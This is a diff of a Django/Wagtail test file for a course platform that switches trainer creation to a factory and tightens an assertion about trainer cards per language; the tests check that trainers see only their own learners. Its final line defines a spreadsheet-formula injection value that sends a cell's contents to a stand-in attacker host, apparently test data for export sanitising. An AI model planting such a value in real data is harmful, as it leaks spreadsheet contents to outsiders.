@@ -10,7 +10,7 @@ from wagtail.models import Page
 
 from accounts.factories import UserFactory
 from courses import services
-from courses.factories import build_course
+from courses.factories import TrainerFactory, build_course
 from courses.models import Enrolment, Trainer
 from courses.roles import COURSE_MANAGERS, TRAINERS
 
@@ -26,7 +26,7 @@ def staff(group_name: str, **fields):
 def test_trainer_sees_only_the_learners_of_their_own_courses(client, catalogue):
     trainer_user = staff(TRAINERS, full_name="Tina Trainer")
     mine, my_lessons = build_course(parent=catalogue, title="My course")
-    mine.trainers.add(Trainer.objects.create(name="Tina Trainer", user=trainer_user))
+    mine.trainers.add(TrainerFactory(name="Tina Trainer", user=trainer_user))
     mine.save_revision().publish()
     other, _ = build_course(parent=catalogue, title="Someone else's course")
     ana, bor = (
@@ -211,8 +211,8 @@ def test_a_trainer_edits_only_their_own_card_and_never_its_account(client, catal
     """Linking someone else's card to oneself opened that course's learners."""
     tina = staff(TRAINERS, full_name="Tina Trainer")
     ana_user = staff(TRAINERS, full_name="Ana Author")
-    tina_card = Trainer.objects.create(name="Tina Trainer", user=tina)
-    ana_card = Trainer.objects.create(name="Ana Author", user=ana_user)
+    tina_card = TrainerFactory(name="Tina Trainer", user=tina)
+    ana_card = TrainerFactory(name="Ana Author", user=ana_user)
     course, _ = build_course(parent=catalogue, title="Ana's course")
     course.trainers.add(ana_card)
     course.save_revision().publish()
@@ -267,7 +267,7 @@ def test_a_course_manager_links_cards_to_accounts_that_may_teach(client, catalog
     manager = staff(COURSE_MANAGERS, full_name="Maja Manager")
     tina = staff(TRAINERS, full_name="Tina Trainer")
     lara = UserFactory(full_name="Lara Learner")
-    card = Trainer.objects.create(name="Tina Trainer")
+    card = TrainerFactory(name="Tina Trainer")
     client.force_login(manager)
     edit = reverse("wagtailsnippets_courses_trainer:edit", args=[card.pk])
 
@@ -292,7 +292,7 @@ def test_the_course_form_offers_each_trainer_once(client, catalogue):
     """A trainer has a card per language; the course form listed both."""
     from wagtail.models import Locale
 
-    english = Trainer.objects.create(
+    english = TrainerFactory(
         name="Tina Trainer", locale=Locale.objects.get(language_code="en")
     )
     english.copy_for_translation(Locale.objects.get(language_code="sl")).save()
@@ -302,7 +302,11 @@ def test_the_course_form_offers_each_trainer_once(client, catalogue):
     form = client.get(reverse("wagtailadmin_pages:edit", args=[course.pk])).context[
         "form"
     ]
-    assert list(form.fields["trainers"].queryset) == [english]
+    offered = list(form.fields["trainers"].queryset)
+    # One card per trainer (the demo's trainer has two as well), in English.
+    assert [card for card in offered if card.name == "Tina Trainer"] == [english]
+    assert len({card.translation_key for card in offered}) == len(offered)
+    assert {card.locale.language_code for card in offered} == {"en"}
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B3,"Ana")'
